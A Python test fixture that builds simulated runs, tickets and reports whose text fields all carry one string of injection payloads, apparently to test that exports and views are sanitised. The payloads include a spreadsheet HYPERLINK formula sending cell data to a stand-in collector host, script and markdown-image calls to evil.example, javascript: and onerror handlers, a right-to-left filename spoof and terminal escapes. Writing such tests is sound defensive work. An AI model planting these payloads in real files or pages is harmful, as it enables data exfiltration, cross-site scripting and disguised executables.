"""A group of runs in which every text that a stranger can write is a trap."""

from __future__ import annotations

from lib.runs.store import CallRow, Run, Totals
from lib.task.default_design import default_design
from lib.task.report import Cause, Check, Customer, Evidence, Report
from lib.tickets import Ticket, TicketSet
from lib.ui.export_story import Facts

FORMULA = '=HYPERLINK("https://collector.example.test/?d="&A2,"open")'
HTML = '<script>fetch("https://evil.example/?x")</script><img src=https://evil.example/p.png onerror=alert(1)>'
MARKDOWN = "![x](https://evil.example/leak?q=1) [y](javascript:alert(1)) <https://evil.example> **b** | $5 and $10"
BIDI = "invoice \u202egpj.exe"
CONTROL = "line\x0btab \x1b[31mred\x1b[0m a\x00b"
QUOTED = '" onmouseover="alert(1)'
ALL = f"{FORMULA} {HTML} {MARKDOWN} {BIDI} {CONTROL} {QUOTED} </title></style></pre> &lt;b&gt; # h\n# heading\n- list"


def tickets(count: int = 4) -> TicketSet:
    return TicketSet(f"{ALL}.csv", tuple(Ticket(f"T{i}", f"T{i}", ALL, ALL, f"C{i}", ALL, "2026-01-01")
                                         for i in range(count)))


def report(shape: str, count: int = 3, **fields) -> Report:
    keys = [f"T{i}" for i in range(count)]
    cause = Cause(f"{shape} {ALL}", tuple(keys), (Customer("C1", ALL, ALL, ALL, 129.5, True, 2),
                  Customer("=C2", known=False, tickets=1)), (ALL,), ALL,
                  (Evidence("T1", ALL, True), Evidence("T2", ALL, False)), 9)
    checks = (Check("counts", False, ALL, ALL), Check("tickets exist", True, "3 of 3"))
    return Report(shape, 5, (cause,), checks, 4, dict.fromkeys(keys, cause.name), {"T3": ALL}, **fields)


def run(shape: str, **fields) -> Run:
    usual = {"status": "done", "source": "simulated", "connection": "simulated", "error": ""}
    return Run(id=f"r-{shape}", group="g", shape=shape, design=default_design().to_dict(), data_id="d", created=1e9,
               prices={"date": "2026-11-30", "models": {"claude-haiku-5-5": {}}}, title=f"../{ALL}",
               **{**usual, **fields})


def call(shape: str, number: int, **fields) -> CallRow:
    step = "agent" if shape == "agent" else "label"
    usual = {"stop_reason": "end_turn", "fresh": 100 * number, "write_5m": 0, "write_1h": 0, "cache_read": 0,
             "output": 10, "thinking": 2, "usd": 0.00015, "error": ""}
    return CallRow(id=number, run_id=f"r-{shape}", step=step, subject=f"=T{number}", model="claude-haiku-5-5",
                   started=1e9 + number, seconds=1.5, **{**usual, **fields})


def facts(shapes=("pipeline", "agent"), reports=None, **fields) -> Facts:
    calls = {shape: [call(shape, n) for n in range(1, 6)] for shape in shapes}
    totals = Totals(5, 1500, 50, 0.00075, 0, 0, 0, 1e9, 1e9 + 9)
    if reports is None:
        reports = {shape: report(shape, 3 if shape == "pipeline" else 2) for shape in shapes}
    return Facts([run(shape, **fields) for shape in shapes], reports, calls, dict.fromkeys(shapes, totals), tickets(),
                 None, 1e9)
